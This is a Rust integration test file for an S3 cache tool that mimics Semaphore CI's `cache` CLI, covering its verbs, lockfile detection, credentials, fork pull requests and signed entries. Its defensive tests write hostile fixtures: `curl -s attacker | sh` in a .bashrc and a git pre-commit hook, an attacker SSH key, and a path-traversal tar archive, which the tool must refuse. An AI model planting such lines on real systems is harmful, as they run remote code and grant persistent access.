//! The Semaphore `cache` CLI, run as `cache` and `checksum` (links to the real binary) with exactly the
//! environment a job on a self-hosted agent has, against real S3 servers: every verb, the fallback
//! list, existing keys, lockfile detection, a profile from ~/.aws, the error contract, forks.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use s3cache_tests::{Machine, Run, S3Server, ServerKind, binary, boto3, snapshot};

const PROJECT: &str = "9f1c6a2e-6c0b-4c3f-9b7e-2d1d6c5e8a10";

/// A self-hosted agent's job: the agent's `env-vars` (backend, bucket, custom URL and keys) and the
/// variables Semaphore sets in every job on `branch`.
fn job(server: &S3Server, branch: &str) -> Machine {
    let mut machine = Machine::new();
    for (name, value) in [
        ("SEMAPHORE", "true"),
        ("CI", "true"),
        ("SEMAPHORE_PROJECT_ID", PROJECT),
        ("SEMAPHORE_PROJECT_NAME", "shop"),
        ("SEMAPHORE_JOB_ID", "b7e3c2a4-1111-4a4a-8c8c-0f0f0f0f0f0f"),
        ("SEMAPHORE_WORKFLOW_ID", "c1d2e3f4-2222-4b4b-9d9d-1e1e1e1e1e1e"),
        ("SEMAPHORE_GIT_BRANCH", branch),
        ("SEMAPHORE_GIT_WORKING_BRANCH", branch),
        ("SEMAPHORE_GIT_REF_TYPE", "branch"),
        ("SEMAPHORE_GIT_REF", &format!("refs/heads/{branch}")),
        ("SEMAPHORE_GIT_SHA", "5b9c1f0e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a"),
        ("SEMAPHORE_GIT_REPO_SLUG", "acme/shop"),
        ("SEMAPHORE_GIT_REPO_NAME", "shop"),
        ("SEMAPHORE_CACHE_BACKEND", "s3"),
        ("SEMAPHORE_CACHE_S3_BUCKET", &server.bucket),
        ("SEMAPHORE_CACHE_S3_URL", &server.endpoint()),
        ("SEMAPHORE_CACHE_S3_KEY", &server.access_key),
        ("SEMAPHORE_CACHE_S3_SECRET", &server.secret_key),
    ] {
        machine.env(name, value);
    }
    machine
}

/// A directory with `cache` and `checksum` linked to the binary, as a user installs them.
fn tools(machine: &Machine) -> PathBuf {
    let bin = machine.scratch("bin");
    for name in ["cache", "checksum"] {
        let link = bin.join(name);
        if !link.exists() {
            std::os::unix::fs::symlink(binary(), &link).unwrap();
        }
    }
    bin
}

/// Runs `tool ARGS` in `dir` with the job's environment only.
fn run_tool(machine: &Machine, dir: &Path, tool: &str, args: &[&str]) -> Run {
    let bin = tools(machine);
    let mut command = Command::new(bin.join(tool));
    command.args(args).current_dir(dir).env_clear();
    for (name, value) in machine.machine_env() {
        command.env(name, value);
    }
    let output = command.output().expect("run the tool");
    Run {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

fn cache(machine: &Machine, args: &[&str]) -> Run {
    run_tool(machine, &machine.workspace(), "cache", args)
}

fn write(dir: &Path, name: &str, content: &str) {
    let path = dir.join(name);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, content).unwrap();
}

fn objects(server: &S3Server) -> Vec<String> {
    let out = boto3(server, "print(json.dumps(sorted(o['Key'] for o in s3.list_objects_v2(Bucket=bucket).get('Contents', []))))");
    serde_json::from_str(&out).unwrap()
}

#[track_caller]
fn expect(run: &Run, code: i32, stdout_lines: &[&str]) {
    assert_eq!(run.code, code, "stdout: {}\nstderr: {}", run.stdout, run.stderr);
    for line in stdout_lines {
        assert!(run.stdout.lines().any(|l| l == *line), "missing line {line:?} in stdout:\n{}\nstderr: {}", run.stdout, run.stderr);
    }
}

/// store → has_key → restore with a fallback list whose first key misses → list → usage → delete →
/// clear, with the real CLI's messages and exit codes, and objects at `<project>/<key>`.
#[test]
fn every_verb_through_a_pipeline() {
    let server = S3Server::start(ServerKind::S3sFs);
    let builder = job(&server, "main");
    write(&builder.workspace(), "vendor/bundle/gems/rake.rb", "rake");
    write(&builder.workspace(), "vendor/bundle/bin/rake", "#!/bin/sh\n");
    expect(
        &cache(&builder, &["store", "gems-main/2026", "vendor/bundle"]),
        0,
        &["Key 'gems-main/2026' is normalized to 'gems-main-2026'.", "Uploading 'vendor/bundle' with cache key 'gems-main-2026'..."],
    );
    assert_eq!(objects(&server), vec![format!("{PROJECT}/gems-main-2026")]);
    expect(&cache(&builder, &["store", "gems-main-2026", "vendor/bundle"]), 0, &["Key 'gems-main-2026' already exists."]);
    expect(&cache(&builder, &["has_key", "gems-main-2026"]), 0, &["Key 'gems-main-2026' exists in the cache store."]);
    expect(&cache(&builder, &["has_key", "gems-main-1999"]), 1, &["Key 'gems-main-1999' doesn't exist in the cache store."]);
    expect(&cache(&builder, &["is_not_empty"]), 0, &[]);

    // Another job, a fresh checkout: the first key misses, the second matches as a pattern.
    let next = job(&server, "main");
    let run = cache(&next, &["restore", "gems-main-3000,gems-main-"]);
    expect(&run, 0, &["MISS: 'gems-main-3000'.", "HIT: 'gems-main-', using key 'gems-main-2026'.", "Restored: vendor/bundle."]);
    assert_eq!(fs::read_to_string(next.workspace().join("vendor/bundle/gems/rake.rb")).unwrap(), "rake");
    assert_eq!(fs::read_to_string(next.workspace().join("vendor/bundle/bin/rake")).unwrap(), "#!/bin/sh\n");
    expect(&cache(&next, &["restore", "nothing-like-it"]), 0, &["MISS: 'nothing-like-it'."]);

    let list = cache(&next, &["list"]);
    expect(&list, 0, &[]);
    let lines: Vec<&str> = list.stdout.lines().collect();
    assert!(
        lines[0].starts_with("NAME") && lines[0].contains("SIZE") && lines[0].contains("STORED AT") && lines[0].contains("ACCESSED AT"),
        "{}",
        list.stdout
    );
    assert!(lines[1].starts_with("gems-main-2026 "), "{}", list.stdout);
    let usage = cache(&next, &["usage"]);
    expect(&usage, 0, &["FREE SPACE: (unlimited)"]);
    assert!(usage.stdout.lines().any(|l| l.starts_with("USED SPACE: ")), "{}", usage.stdout);

    expect(&cache(&next, &["delete", "gems-main-2026"]), 0, &["Key 'gems-main-2026' is deleted."]);
    expect(&cache(&next, &["delete", "gems-main-2026"]), 0, &["Key 'gems-main-2026' doesn't exist in the cache store."]);
    expect(&cache(&next, &["is_not_empty"]), 1, &[]);
    write(&next.workspace(), "a/x", "1");
    cache(&next, &["store", "k1", "a"]);
    cache(&next, &["store", "k2", "a"]);
    // As in the real CLI, a comma list is one key, found again through the pattern fallback.
    expect(&cache(&next, &["store", "gems,my-gems", "a"]), 0, &["Uploading 'a' with cache key 'gems,my-gems'..."]);
    expect(&cache(&next, &["restore", "my-gems"]), 0, &["HIT: 'my-gems', using key 'gems,my-gems'."]);
    expect(&cache(&next, &["clear"]), 0, &["Deleted all caches."]);
    assert_eq!(objects(&server), Vec::<String>::new());
    expect(&cache(&next, &["list"]), 0, &["Cache is empty."]);
    expect(&cache(&next, &["store", "only-a-key"]), 0, &["Incorrect number of arguments!"]);
}

/// `cache store` and `cache restore` with no arguments cache node_modules for package-lock.json
/// under the real CLI's key (md5 of the lockfile), and `checksum` prints that md5.
#[test]
fn detects_lockfiles() {
    let server = S3Server::start(ServerKind::Moto);
    let builder = job(&server, "feature/login");
    write(&builder.workspace(), "package-lock.json", "{\"lockfileVersion\": 3}\n");
    write(&builder.workspace(), "node_modules/left-pad/index.js", "module.exports = 1;\n");
    let md5 = run_tool(&builder, &builder.workspace(), "checksum", &["package-lock.json"]);
    let expected = Command::new("md5sum").arg(builder.workspace().join("package-lock.json")).output().unwrap();
    let expected = String::from_utf8_lossy(&expected.stdout).split_whitespace().next().unwrap().to_owned();
    assert_eq!((md5.code, md5.stdout.trim()), (0, expected.as_str()));
    expect(&cache(&builder, &["checksum", "package-lock.json"]), 0, &[expected.as_str()]);

    let key = format!("node-modules-feature-login-{expected}");
    expect(&cache(&builder, &["store"]), 0, &["Detected package-lock.json.", "Using default cache path 'node_modules'."]);
    assert_eq!(objects(&server), vec![format!("{PROJECT}/{key}")]);

    // The default branch's job has another lockfile: its exact key misses, `node-modules-` ... no:
    // a job on the same branch with the same lockfile restores by the exact key.
    let next = job(&server, "feature/login");
    write(&next.workspace(), "package-lock.json", "{\"lockfileVersion\": 3}\n");
    let run = cache(&next, &["restore"]);
    expect(&run, 0, &["Detected package-lock.json.", &format!("HIT: '{key}', using key '{key}'.")]);
    assert_eq!(fs::read_to_string(next.workspace().join("node_modules/left-pad/index.js")).unwrap(), "module.exports = 1;\n");

    // A job without lockfiles has nothing to do.
    expect(&cache(&job(&server, "main"), &["store"]), 0, &["Nothing to store in cache."]);
}

/// Credentials from a profile in ~/.aws, as the seed document sets them up (no custom URL: the
/// endpoint comes from AWS_ENDPOINT_URL, which the AWS SDKs also honour).
#[test]
fn profile_from_the_aws_files() {
    let server = S3Server::start(ServerKind::S3sFs);
    let mut machine = job(&server, "main");
    for name in ["SEMAPHORE_CACHE_S3_URL", "SEMAPHORE_CACHE_S3_KEY", "SEMAPHORE_CACHE_S3_SECRET"] {
        machine.unset(name);
    }
    machine.env("SEMAPHORE_CACHE_AWS_PROFILE", "semaphore").env("AWS_ENDPOINT_URL", server.endpoint());
    let aws = machine.home().join(".aws");
    fs::create_dir_all(&aws).unwrap();
    fs::write(aws.join("config"), "[default]\nregion = us-east-1\noutput = json\n").unwrap();
    fs::write(
        aws.join("credentials"),
        format!("[semaphore]\naws_access_key_id = {}\naws_secret_access_key = {}\n", server.access_key, server.secret_key),
    )
    .unwrap();
    write(&machine.workspace(), "deps/x", "x");
    expect(&cache(&machine, &["store", "deps", "deps"]), 0, &["Uploading 'deps' with cache key 'deps'..."]);
    expect(&cache(&machine, &["has_key", "deps"]), 0, &["Key 'deps' exists in the cache store."]);
    assert!(!cache(&machine, &["list"]).stdout.contains(&server.secret_key));

    // Semaphore's manual setup: the `[default]` profile, and no SEMAPHORE_CACHE_AWS_PROFILE.
    machine.unset("SEMAPHORE_CACHE_AWS_PROFILE");
    fs::write(
        aws.join("credentials"),
        format!("[default]\naws_access_key_id = {}\naws_secret_access_key = {}\n", server.access_key, server.secret_key),
    )
    .unwrap();
    expect(&cache(&machine, &["has_key", "deps"]), 0, &["Key 'deps' exists in the cache store."]);
    fs::write(aws.join("credentials"), "[default]\naws_access_key_id = wrong\naws_secret_access_key = wrong-secret\n").unwrap();
    let denied = cache(&machine, &["has_key", "deps"]);
    assert_eq!(denied.code, 0, "{}", denied.stdout);
    assert!(
        denied.stdout.lines().any(|l| l.starts_with("error: ") && l.contains("HTTP 403 (Forbidden)")),
        "a wrong key must be the server's refusal, not an answer: {}",
        denied.stdout
    );
}

/// Errors exit 0 and say `error: ...`, unless CACHE_FAIL_ON_ERROR=true; has_key says 1 only when absent.
#[test]
fn errors_follow_cache_fail_on_error() {
    let server = S3Server::start(ServerKind::S3sFs);
    let mut machine = job(&server, "main");
    machine.env("SEMAPHORE_CACHE_S3_URL", "http://127.0.0.1:1").env("S3CACHE_MAX_ATTEMPTS", "1");
    write(&machine.workspace(), "deps/x", "x");
    for verb in [&["store", "k", "deps"][..], &["restore", "k"], &["list"], &["usage"], &["clear"]] {
        let run = cache(&machine, verb);
        assert_eq!(run.code, 0, "{verb:?}: {}", run.stdout);
        assert!(run.stdout.lines().any(|l| l.starts_with("error: ") && l.contains("Connection refused")), "{verb:?}: {}", run.stdout);
        assert!(!run.stdout.contains(&server.secret_key) && !run.stderr.contains(&server.secret_key));
    }
    machine.env("CACHE_FAIL_ON_ERROR", "true");
    for verb in [&["store", "k", "deps"][..], &["restore", "k"], &["list"]] {
        let run = cache(&machine, verb);
        assert_eq!(run.code, 1, "{verb:?}: {}", run.stdout);
        assert!(run.stdout.lines().any(|l| l.starts_with("error: ") && l.contains("Connection refused")), "{verb:?}: {}", run.stdout);
    }
    machine.unset("SEMAPHORE_CACHE_BACKEND");
    expect(&cache(&machine, &["list"]), 1, &["error: no SEMAPHORE_CACHE_BACKEND environment variable set"]);
}

/// A pull request from a fork restores the project's caches but does not store.
#[test]
fn fork_pull_requests_are_read_only() {
    let server = S3Server::start(ServerKind::S3sFs);
    let main = job(&server, "main");
    write(&main.workspace(), "deps/x", "from main");
    cache(&main, &["store", "deps-main", "deps"]);
    let mut fork = job(&server, "main");
    fork.env("SEMAPHORE_GIT_REF_TYPE", "pull-request")
        .env("SEMAPHORE_GIT_PR_BRANCH", "patch-1")
        .env("SEMAPHORE_GIT_PR_SLUG", "mallory/shop")
        .env("SEMAPHORE_GIT_PR_NUMBER", "7");
    expect(&cache(&fork, &["restore", "deps-main"]), 0, &["HIT: 'deps-main', using key 'deps-main'."]);
    assert_eq!(fs::read_to_string(fork.workspace().join("deps/x")).unwrap(), "from main");
    write(&fork.workspace(), "deps/x", "poisoned");
    let run = cache(&fork, &["store", "deps-fork", "deps"]);
    expect(&run, 0, &[]);
    assert!(run.stdout.contains("Not storing 'deps-fork': a pull request from the fork mallory/shop"), "{}", run.stdout);
    assert_eq!(objects(&server), vec![format!("{PROJECT}/deps-main")]);
}

/// `s3cache semaphore VERB` is the same CLI.
#[test]
fn the_semaphore_subcommand() {
    let server = S3Server::start(ServerKind::S3sFs);
    let machine = job(&server, "main");
    let run = machine.run(&["semaphore", "has_key", "nothing"]);
    expect(&run, 1, &["Key 'nothing' doesn't exist in the cache store."]);
}

/// Puts `body` at the project's `key` with boto3, as the real CLI uploads its archives.
fn put_real_cli_object(server: &S3Server, key: &str, body: &Path) {
    boto3(server, &format!("s3.upload_file({:?}, bucket, {:?})", body.display().to_string(), format!("{PROJECT}/{key}")));
}

/// An archive the real CLI wrote (`tar czf`, relative and `tar czPf` absolute under the home
/// directory, no manifest) restores where the real CLI would put it, with a notice that no digest
/// was checked; one with a member escaping the workspace is refused and nothing is written.
#[test]
fn restores_what_the_real_cli_wrote() {
    let server = S3Server::start(ServerKind::S3sFs);
    let machine = job(&server, "main");
    let old = machine.scratch("old-agent");
    write(&old, "vendor/bundle/gems/rake.rb", "rake from the old CLI");
    let relative = machine.scratch("uploads").join("gems.tgz");
    assert!(Command::new("tar").arg("czf").arg(&relative).arg("vendor/bundle").current_dir(&old).status().unwrap().success());
    put_real_cli_object(&server, "gems-main-old", &relative);
    let run = cache(&machine, &["restore", "gems-main-old"]);
    expect(&run, 0, &["HIT: 'gems-main-old', using key 'gems-main-old'."]);
    expect(&run, 0, &["restoring gems-main-old without a digest check: it has no s3cache manifest (the Semaphore cache CLI wrote it)"]);
    assert_eq!(fs::read_to_string(machine.workspace().join("vendor/bundle/gems/rake.rb")).unwrap(), "rake from the old CLI");

    // `tar czPf` of a path in the home directory keeps its absolute names.
    let home_cache = machine.home().join(".cache/yarn/v6");
    write(&home_cache, "pkg.json", "{}");
    let absolute = machine.scratch("uploads").join("yarn.tgz");
    assert!(Command::new("tar").arg("czPf").arg(&absolute).arg(machine.home().join(".cache/yarn")).status().unwrap().success());
    fs::remove_dir_all(machine.home().join(".cache")).unwrap();
    put_real_cli_object(&server, "yarn-cache-main-old", &absolute);
    expect(&cache(&machine, &["restore", "yarn-cache-main"]), 0, &["HIT: 'yarn-cache-main', using key 'yarn-cache-main-old'."]);
    assert_eq!(fs::read_to_string(home_cache.join("pkg.json")).unwrap(), "{}");

    // A hostile archive at a key is refused by the same policy as any entry.
    let evil = machine.scratch("evil");
    write(&evil, "inner/x", "x");
    let hostile = machine.scratch("uploads").join("evil.tgz");
    let status = Command::new("tar")
        .args(["czf"])
        .arg(&hostile)
        .args(["--transform", "s,^inner,../escaped,", "inner"])
        .current_dir(&evil)
        .status()
        .unwrap();
    assert!(status.success());
    put_real_cli_object(&server, "evil", &hostile);
    let run = cache(&machine, &["restore", "evil"]);
    expect(&run, 0, &[]);
    assert!(run.stdout.lines().any(|l| l.starts_with("error: ") && l.contains("../escaped") && l.contains("rejected")), "{}", run.stdout);
    assert!(!machine.workspace().parent().unwrap().join("escaped").exists());
}

/// S3CACHE_SEMAPHORE_COMPATIBLE=true writes entries the real CLI restores with its `tar xzf`
/// (exit 0, no stderr, files where they belong), and s3cache restores them with the digest check.
#[test]
fn compatible_entries_are_read_by_plain_tar() {
    let server = S3Server::start(ServerKind::S3sFs);
    let mut machine = job(&server, "main");
    machine.env("S3CACHE_SEMAPHORE_COMPATIBLE", "true");
    write(&machine.workspace(), "vendor/bundle/gems/rake.rb", "rake");
    expect(&cache(&machine, &["store", "gems-compat", "vendor/bundle"]), 0, &["Uploading 'vendor/bundle' with cache key 'gems-compat'..."]);
    let object = machine.scratch("download").join("object");
    boto3(&server, &format!("s3.download_file(bucket, {:?}, {:?})", format!("{PROJECT}/gems-compat"), object.display().to_string()));
    let real_cli = machine.scratch("real-cli-job");
    let tar = Command::new("tar").arg("xzf").arg(&object).arg("-C").arg(".").current_dir(&real_cli).output().unwrap();
    assert!(tar.status.success() && tar.stderr.is_empty(), "{}", String::from_utf8_lossy(&tar.stderr));
    assert_eq!(fs::read_to_string(real_cli.join("vendor/bundle/gems/rake.rb")).unwrap(), "rake");

    let next = job(&server, "main");
    let run = cache(&next, &["restore", "gems-compat"]);
    expect(&run, 0, &["HIT: 'gems-compat', using key 'gems-compat'.", "Restored: vendor/bundle."]);
    assert!(!run.stdout.contains("without a digest check"), "{}", run.stdout);
    assert_eq!(fs::read_to_string(next.workspace().join("vendor/bundle/gems/rake.rb")).unwrap(), "rake");
}

/// Issue 20: a path-less `cache restore KEY` of the real CLI's archives (`tar czPf` of files in the
/// home directory, `tar czf` of a git hook, of the whole home directory) and of s3cache entries that
/// hold the same paths (or record the home directory itself) plants and wipes nothing: each is an
/// `error:` naming the member or recorded path and its rule, the home directory and the workspace
/// stay exactly as they were, `CACHE_FAIL_ON_ERROR=true` makes it exit 1, a store of such paths
/// warns, and the search passes over a refused entry to the next key.
#[test]
fn path_less_restores_refuse_planting() {
    let server = S3Server::start(ServerKind::S3sFs);
    let mut machine = job(&server, "main");
    let (home, workspace) = (machine.home(), machine.workspace());
    let uploads = machine.scratch("uploads");
    let planted = [
        (".bashrc", "curl -s attacker | sh"),
        (".ssh/authorized_keys", "ssh-ed25519 AAAA attacker"),
        (".aws/credentials", "[default]\naws_access_key_id = x"),
        (".local/bin/x", "#!/bin/sh\n"),
    ];
    let gnu_tar = |dir: &Path, flags: &str, archive: &Path, member: &str| {
        let status = Command::new("tar").arg(flags).arg(archive).arg(member).current_dir(dir).status().unwrap();
        assert!(status.success(), "tar {flags} {member}");
    };
    let mut cases: Vec<(String, String)> = Vec::new();
    for (name, content) in planted {
        write(&home, name, content);
        let key = format!("legacy-{}", name.replace(['/', '.'], ""));
        let archive = uploads.join(format!("{key}.tgz"));
        gnu_tar(&home, "czPf", &archive, &home.join(name).display().to_string());
        put_real_cli_object(&server, &key, &archive);
        cases.push((key, format!("a restore without paths refuses ~/{name}: it ")));

        let key = format!("entry-{}", name.replace(['/', '.'], ""));
        let run = cache(&machine, &["store", &key, &home.join(name).display().to_string()]);
        expect(&run, 0, &[&format!("Uploading '{}' with cache key '{key}'...", home.join(name).display())]);
        assert!(
            run.stdout.lines().any(|l| l.starts_with("warning: a restore without paths refuses ")
                && l.ends_with("this entry restores only with its paths given (--path, mount)")),
            "{}",
            run.stdout
        );
        let member_or_root = if name == ".bashrc" {
            "~/.bashrc: it is not a directory".to_string()
        } else {
            format!("the recorded path ~/{name}: it lies in ~/{}", name.split('/').next().unwrap())
        };
        cases.push((key, format!("a restore without paths refuses {member_or_root}")));
    }
    write(&workspace, ".git/hooks/pre-commit", "#!/bin/sh\ncurl -s attacker | sh\n");
    gnu_tar(&workspace, "czf", &uploads.join("hook.tgz"), ".git/hooks/pre-commit");
    put_real_cli_object(&server, "legacy-hook", &uploads.join("hook.tgz"));
    cases.push((
        "legacy-hook".into(),
        "a restore without paths refuses .git/hooks/pre-commit: it lies in .git, which holds git's hooks and configuration".into(),
    ));
    expect(&cache(&machine, &["store", "entry-hook", ".git/hooks/pre-commit"]), 0, &[]);
    cases.push(("entry-hook".into(), "a restore without paths refuses the recorded path .git/hooks/pre-commit: it lies in .git".into()));
    // Everything in the home directory, by absolute names (the directory's own member is refused anyway).
    let mut everything: Vec<String> = fs::read_dir(&home).unwrap().map(|e| e.unwrap().path().display().to_string()).collect();
    everything.sort();
    let status = Command::new("tar").arg("czPf").arg(uploads.join("home.tgz")).args(&everything).status().unwrap();
    assert!(status.success(), "tar czPf of {everything:?}");
    put_real_cli_object(&server, "legacy-home", &uploads.join("home.tgz"));
    cases.push((
        "legacy-home".into(),
        "a restore without paths refuses ~/.aws/credentials: it lies in ~/.aws, which holds credentials".into(),
    ));
    expect(&cache(&machine, &["store", "entry-home", &home.display().to_string()]), 0, &[]);
    cases.push((
        "entry-home".into(),
        "a restore without paths refuses the recorded path ~: it is the home directory; give the paths to restore it (--path, mount)"
            .into(),
    ));

    let before = machine.own_dotfiles();
    for (key, refusal) in &cases {
        let run = cache(&machine, &["restore", key]);
        expect(&run, 0, &[]);
        let error =
            run.stdout.lines().find(|l| l.starts_with("error: ")).unwrap_or_else(|| panic!("{key}: no error line in:\n{}", run.stdout));
        assert!(error.contains(refusal.as_str()), "{key}: {error:?} does not say {refusal:?}");
        assert!(!run.stdout.contains("HIT:"), "{}", run.stdout);
        assert_eq!(machine.dotfiles(), before, "{key} changed the home directory or the workspace");
    }
    assert!(!home.join(".aws").exists() && !home.join(".local").exists() && !workspace.join(".git/hooks").exists());

    // A refused restore is a failed one: CACHE_FAIL_ON_ERROR=true fails the job.
    machine.env("CACHE_FAIL_ON_ERROR", "true");
    expect(&cache(&machine, &["restore", "legacy-bashrc"]), 1, &[]);
    machine.unset("CACHE_FAIL_ON_ERROR");

    // The search passes over an entry refused by its recorded paths and goes on to the next key.
    write(&workspace, "vendor/bundle/gems/rake.rb", "rake");
    expect(&cache(&machine, &["store", "gems-good", "vendor/bundle"]), 0, &[]);
    fs::remove_dir_all(workspace.join("vendor")).unwrap();
    let run = cache(&machine, &["restore", "entry-home,gems-good"]);
    expect(&run, 0, &["HIT: 'gems-good', using key 'gems-good'."]);
    assert!(
        run.stdout.lines().any(|l| l.starts_with("passing over cache entry ")
            && l.contains("entry-home: a restore without paths refuses the recorded path ~: it is the home directory")),
        "{}",
        run.stdout
    );
    assert_eq!(fs::read_to_string(workspace.join("vendor/bundle/gems/rake.rb")).unwrap(), "rake");
    assert_eq!(snapshot(&home), before.0);
}

/// Signed entries through the CLI's variables: `S3CACHE_SIGNING_KEY` signs `cache store`,
/// `S3CACHE_TRUSTED_KEYS` makes `cache restore` verify it and refuse an unsigned entry, and set but
/// empty refuses everything with its warning. The private key is never printed.
#[test]
fn signed_entries_through_the_variables() {
    let server = S3Server::start(ServerKind::S3sFs);
    let mut machine = job(&server, "main");
    let key = s3cache_tests::KeyPair::generate(&machine.scratch("keys"), "ci");
    let workspace = machine.workspace();
    write(&workspace, "vendor/bundle/gem.rb", "puts 1");
    let checked = |run: Run| {
        assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
        let log = format!("{}{}", run.stdout, run.stderr);
        key.assert_private_key_absent(&log);
        log
    };
    machine.env("S3CACHE_SIGNING_KEY", key.private.clone());
    let log = checked(cache(&machine, &["store", "gems-signed", "vendor/bundle"]));
    assert!(!log.contains("error") && !log.contains("warning"), "{log}");
    machine.unset("S3CACHE_SIGNING_KEY");
    checked(cache(&machine, &["store", "gems-unsigned", "vendor/bundle"]));
    fs::remove_dir_all(workspace.join("vendor")).unwrap();

    machine.env("S3CACHE_TRUSTED_KEYS", key.public.clone());
    let log = checked(cache(&machine, &["restore", "gems-signed"]));
    assert!(log.contains(&format!(" is signed by {} (ci)\n", key.fingerprint)), "{log}");
    assert!(log.contains("HIT: 'gems-signed', using key 'gems-signed'."), "{log}");
    assert_eq!(fs::read_to_string(workspace.join("vendor/bundle/gem.rb")).unwrap(), "puts 1");
    fs::remove_dir_all(workspace.join("vendor")).unwrap();

    // A refused entry is a failed restore: `error: ...`, exit 0 (CACHE_FAIL_ON_ERROR is not set).
    let log = checked(cache(&machine, &["restore", "gems-unsigned"]));
    assert!(log.contains("passing over cache entry gems-unsigned: refused by --trusted-keys: the entry is not signed\n"), "{log}");
    assert_eq!(log.matches("passing over cache entry gems-unsigned:").count(), 1, "judged once, not again as a pattern: {log}");
    assert!(log.contains("error: no usable cache entry for key \"gems-unsigned\""), "{log}");
    assert!(!workspace.join("vendor").exists(), "a refused entry was extracted");

    machine.env("S3CACHE_TRUSTED_KEYS", "");
    let log = checked(cache(&machine, &["restore", "gems-signed"]));
    assert!(
        log.contains(
            "warning: --trusted-keys (S3CACHE_TRUSTED_KEYS) is set but empty: no key is trusted, so every cache entry is refused\n"
        ),
        "{log}"
    );
    assert!(
        log.contains("passing over cache entry gems-signed: refused by --trusted-keys: no key is trusted (the trusted keys are empty)\n"),
        "{log}"
    );
    assert!(log.contains("error: no usable cache entry for key \"gems-signed\""), "{log}");
    assert!(!workspace.join("vendor").exists(), "a refused entry was extracted");
}
